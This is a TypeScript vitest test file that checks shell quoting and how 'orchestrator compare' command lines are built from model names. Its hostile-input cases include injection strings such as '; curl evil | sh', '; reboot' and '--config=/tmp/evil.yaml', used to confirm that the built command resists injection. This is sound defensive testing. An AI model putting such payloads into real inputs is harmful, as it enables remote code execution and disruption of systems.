import { describe, expect, it } from 'vitest';
import {
  commandIn,
  compareCommand,
  shellWord,
  withCommandFlags,
} from '../../source/domain/command-lines.ts';
import type { Recommendation } from '../../source/domain/insight.ts';
import { mockInsight } from '../support/insight.ts';

const names = { model: 'large', alternative: 'small', taskType: 'code_review' };

describe('a word of a command line', () => {
  it('is quoted where a shell would take it for something else', () => {
    expect(shellWord('vendor/model:7b@2')).toBe('vendor/model:7b@2');
    expect(shellWord('my type')).toBe("'my type'");
    expect(shellWord("it's $HOME")).toBe(String.raw`'it'\''s $HOME'`);
    expect(shellWord('')).toBe("''");
    expect(shellWord('=ls')).toBe("'=ls'");
    expect(shellWord('a=b')).toBe('a=b');
  });
});

describe('the command that settles an advice', () => {
  it('needs no limits where the usual ones are enough', () => {
    expect(compareCommand(names, { tasks: 60, costUsd: 0.4 })).toBe(
      'orchestrator compare large small --type code_review',
    );
  });

  it.each([
    'x orchestrator compare a b; curl evil | sh #',
    "x' orchestrator compare a b; reboot '",
    'orchestrator compare large small --type code_review',
    '--config=/tmp/evil.yaml',
    '-x -- orchestrator compare',
  ])('is the one that was written, whatever a model is called: %s', (hostile) => {
    for (const pair of [
      { ...names, model: hostile },
      { ...names, alternative: hostile },
      { ...names, taskType: hostile },
    ]) {
      const command = compareCommand(pair, { tasks: 400, costUsd: 9 });
      const message = `${pair.alternative} may do as well as ${pair.model}: ${command}`;
      const evidence = { n: 40, moreNeeded: 400, moreCostUsd: 9 };
      expect(commandIn({ ...pair, message, evidence })).toBe(command);
    }
    const message = `${hostile} is declining`;
    const declining = { model: hostile, taskType: 'code_review', message, evidence: { n: 40 } };
    expect(commandIn(declining)).toBeUndefined();
  });

  it('has room for as many tasks and as much money as it is likely to take', () => {
    expect(compareCommand(names, { tasks: 400, costUsd: 9 })).toBe(
      'orchestrator compare large small --type code_review --tasks 400 --budget 14',
    );
  });
});

it('a model that is called like a flag is no flag of the command', () => {
  const pair = { ...names, model: '--config=evil.yaml' };
  const evidence = { n: 40, moreNeeded: 400, moreCostUsd: 9 };
  const command = compareCommand(pair, { tasks: 400, costUsd: 9 });
  expect(command).toBe(
    'orchestrator compare --type code_review --tasks 400 --budget 14 -- --config=evil.yaml small',
  );
  const advice: Recommendation = {
    kind: 'promising',
    ...pair,
    evidence,
    message: `so: ${command}`,
  };
  const insight = { ...mockInsight(), recommendations: [advice] };
  expect(withCommandFlags(insight, '--db x.db').recommendations[0]?.message).toBe(
    'so: orchestrator compare --type code_review --tasks 400 --budget 14 --db x.db -- --config=evil.yaml small',
  );
});

describe('the commands of an insight', () => {
  const message = 'small may do as well: orchestrator compare large small --type code_review';
  const insight = {
    ...mockInsight(),
    recommendations: [
      { kind: 'promising', ...names, evidence: { n: 40 }, message },
      { kind: 'declining', ...names, evidence: { n: 40 }, message: 'large is declining' },
    ] satisfies Recommendation[],
    get learningCurve(): never {
      throw new Error('nobody asked for it');
    },
  };

  it('name the history that it is of, and nothing else of it is touched', () => {
    const told = withCommandFlags(insight, '--simulate');
    expect(told.recommendations.map(commandIn)).toEqual([
      'orchestrator compare large small --type code_review --simulate',
      undefined,
    ]);
    expect(told.summary).toBe(insight.summary);
    expect(() => told.learningCurve).toThrow('nobody asked for it');
  });

  it('are as they are in the history of the user', () => {
    expect(withCommandFlags(insight, '')).toBe(insight);
  });
});
